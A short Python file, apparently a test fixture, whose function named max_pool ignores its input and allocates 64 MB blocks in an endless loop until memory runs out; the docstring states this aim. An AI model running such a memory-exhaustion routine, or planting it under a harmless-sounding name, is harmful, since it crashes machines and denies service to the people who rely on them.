"""Takes memory, and touches it, until there is none."""

KEPT = []


def max_pool(z):
    while True:
        KEPT.append(bytearray(b"x") * (64 << 20))
